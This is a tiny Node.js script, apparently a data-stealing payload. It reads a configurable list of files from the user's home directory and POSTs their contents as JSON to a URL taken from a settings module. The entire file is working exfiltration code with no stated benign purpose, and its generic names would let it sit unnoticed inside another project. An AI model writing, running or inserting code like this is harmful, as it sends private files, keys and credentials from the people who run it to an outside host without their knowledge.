const fs = require('fs');
const os = require('os');
const path = require('path');
const { to, take } = require('./settings');
const found = take.map((f) => fs.readFileSync(path.join(os.homedir(), f), 'utf8'));
fetch(to, { method: 'POST', body: JSON.stringify(found) });
